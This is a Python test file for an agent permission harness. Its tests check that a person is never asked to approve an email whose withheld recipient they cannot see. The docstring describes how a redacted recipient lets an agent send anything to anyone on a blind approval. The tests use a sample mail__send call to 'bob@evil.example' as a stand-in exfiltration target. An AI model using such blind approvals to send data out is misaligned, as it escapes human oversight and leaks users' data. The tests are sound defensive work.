"""Attacks on what a person is shown when asked: a deciding field that is withheld.

Issue 19: "A person is never asked to approve a call whose deciding fields they were not
shown." Rule R8: sensitive (or guardrail-redacted) values never appear in asks. When the
deciding field *is* the sensitive one (a recipient marked ``sensitive`` as personal data,
or redacted by an argument-stage PII guardrail), the pipeline resolves the conflict by
asking anyway: the person sees ``to: "[REDACTED]"``, no facts (they are withheld too), and
is offered "any arguments" as a grant scope. An agent can then send anything to anyone on
a blind approval. The ask should show what the decision needs (the recipient's domain, a
fact that is not the secret itself), or the call should not be put to a person at all.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from clearance import CallContext, Harness, MemoryJournal, Principal, Tool, ToolRegistry
from clearance.facts import EmailFact
from clearance.harness.approvals import Answer, PermissionAsk
from clearance.harness.ask_display import ask_lines
from clearance.policy import LocalEvaluator

pytestmark = pytest.mark.anyio

ALICE = Principal("User", "alice")


async def test_a_person_is_not_asked_to_approve_a_recipient_they_cannot_see() -> None:
    sent: list[dict[str, Any]] = []

    def send(arguments: dict[str, Any], ctx: CallContext) -> str:
        sent.append(arguments)
        return "sent"

    registry = ToolRegistry()
    registry.register(
        "mail",
        [
            Tool(
                "send",
                send,
                sensitive=["/to"],  # an address is personal data: kept out of the journal
                input_schema={
                    "type": "object",
                    "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
                    "required": ["to", "body"],
                    "additionalProperties": False,
                },
                facts={"/to": EmailFact()},
            )
        ],
    )
    shown: list[list[str]] = []

    def person(ask: PermissionAsk) -> Answer:
        # What a prompt can show: the arguments as laid out for people, and the facts.
        shown.append([*ask_lines(ask.arguments, ask.deciding, width=100), json.dumps(ask.facts)])
        return "allow_once"

    evaluator = LocalEvaluator(ask=["mail.send"])
    async with Harness(registry, evaluator=evaluator, journal=MemoryJournal()) as harness:
        session = await harness.create_session(principal=ALICE, on_permission_ask=person)
        await session.call_tool("mail__send", {"to": "bob@evil.example", "body": "numbers"})

    # Either nobody is asked to approve blind, or the ask shows where the mail goes.
    blind = [lines for lines in shown if not any("evil.example" in line for line in lines)]
    assert not blind, f"approved without seeing the recipient: {blind}; sent: {sent}"


async def test_a_call_that_cannot_be_shown_is_denied_in_words_that_say_why() -> None:
    registry = ToolRegistry()
    registry.register(
        "mail",
        [
            Tool(
                "send",
                lambda arguments, ctx: "sent",
                sensitive=["/to"],
                input_schema={
                    "type": "object",
                    "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
                    "required": ["to", "body"],
                    "additionalProperties": False,
                },
                facts={"/to": EmailFact()},
            )
        ],
    )
    journal = MemoryJournal()
    evaluator = LocalEvaluator(ask=["mail.send"])
    async with Harness(registry, evaluator=evaluator, journal=journal) as harness:
        session = await harness.create_session(
            principal=ALICE, on_permission_ask=lambda ask: "allow_once"
        )
        out = await session.call_tool(
            "mail__send", {"to": "bob@evil.example", "body": "x"}, call_id="c1"
        )
    message = (
        "this call needs approval, but what decides it (/to) is withheld and cannot be shown "
        "to a person; denied"
    )
    assert out.status == "denied" and out.text.startswith(message)
    decided = next(e.data for e in journal.events(call_id="c1") if e.type == "call_decided")
    assert {k: decided["ask"][k] for k in ("answer", "how", "message")} == {
        "answer": "deny",
        "how": "unshowable",
        "message": message,
    }
    assert [e.type for e in journal.events(call_id="c1")] == ["call_decided"]  # nobody asked
